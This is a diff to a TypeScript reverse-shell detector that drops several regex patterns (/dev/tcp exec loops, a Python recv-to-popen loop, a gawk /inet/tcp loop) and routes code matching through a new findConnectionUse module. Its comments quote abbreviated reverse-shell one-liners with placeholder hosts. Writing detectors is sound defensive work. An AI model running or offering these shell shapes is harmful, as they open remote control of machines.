@@ -1,3 +1,4 @@
+import { findConnectionUse } from './connection-use.ts';
 import { findPatterns, findTogether, inOrder, type ShellMatch } from './match.ts';
 import { unfold } from './statements.ts';
 import { SHELL } from './words.ts';
@@ -67,13 +68,6 @@ const SHELL_PATTERNS = [
     `${SHELL}(?:\\s{1,4}-{1,2}[a-z]{1,12}){0,3}\\s{0,4}${REDIRECT}\\s{0,4}/dev/(?:tcp|udp)/[^\\n]{0,80}`,
     'g',
   ),
-  // exec 5<>/dev/tcp/h/p; sh <&5 >&5
-  new RegExp(
-    `\\b(?:exec\\s{1,4})?(\\d{1,3})<>\\s{0,4}/dev/(?:tcp|udp)/[^\\n]{1,80}[\\s\\S]{0,200}?${SHELL}[^\\n;|]{0,30}[<>]&\\s{0,2}\\1(?!\\d)`,
-    'g',
-  ),
-  // exec 5<>/dev/tcp/h/p; cat <&5 | while read line; do $line 2>&5 >&5; done
-  /(?<!\d)(\d{1,3})<>\s{0,4}\/dev\/(?:tcp|udp)\/[^\n]{1,80}[\s\S]{0,160}?\bread\b[^\n;]{0,60}[;\n]\s{0,8}do\s{1,8}(?:eval\s{1,4}|(?:ba)?sh\s{1,4}-c\s{1,4})?["']?\$\{?\w{1,40}\}?["']?[^\n;]{0,40}>&\s{0,2}\1/g,
   // cat < /dev/tcp/h/p | sh
   new RegExp(`/dev/(?:tcp|udp)/[^\\s|;]{1,80}\\s{0,4}\\|\\s{0,4}${SHELL}(?!\\s{1,4}-c)`, 'g'),
   // zmodload zsh/net/tcp; ztcp h p; zsh <&$REPLY
@@ -152,13 +146,6 @@ const CODE_SHAPES: readonly CodeShape[] = [
   { signs: [/\bNet\.Sockets\.TCPClient\b/i, /\bGetStream\(\)/i, /\b(?:iex|Invoke-Expression)\b/i] },
 ];
 
-const CODE_PATTERNS = [
-  // a received command given to a shell: d = s.recv(1024).decode(); os.popen(d)
-  /\b(\w{1,30})\s{0,4}=\s{0,4}\w{1,30}\.recv\(\s{0,4}\d{1,6}\s{0,4}\)[^\n]{0,60}\n?[\s\S]{0,300}?\b(?:popen|system|Popen|check_output|getoutput|getstatusoutput)\s{0,4}\(\s{0,4}\1\b/g,
-  // gawk: "/inet/tcp/0/h/p" |& getline c; while ((c |& getline) > 0)
-  /\/inet[46]?\/tcp\/\d{1,5}\/[\s\S]{1,300}?\|&\s{0,4}getline\s{1,4}(\w{1,20})[\s\S]{0,200}?\(?\s{0,4}\1\s{0,4}\|&?\s{0,4}getline/g,
-];
-
 /** Shapes written in shell, wherever they stand: a script, a cron line, a string that another language runs. */
 export function findReverseShellCommands(text: string): ShellMatch[] {
   return findPatterns(unfold(text), SHELL_PATTERNS);
@@ -168,7 +155,7 @@ export function findReverseShellCommands(text: string): ShellMatch[] {
 export function findReverseShellCode(text: string): ShellMatch[] {
   const shapes = inOrder([
     ...CODE_SHAPES.flatMap(({ signs }) => findTogether(text, signs, SPAN)),
-    ...findPatterns(text, CODE_PATTERNS),
+    ...findConnectionUse(text),
   ]);
   let last = -SPAN;
   return shapes.filter(({ offset }) => {
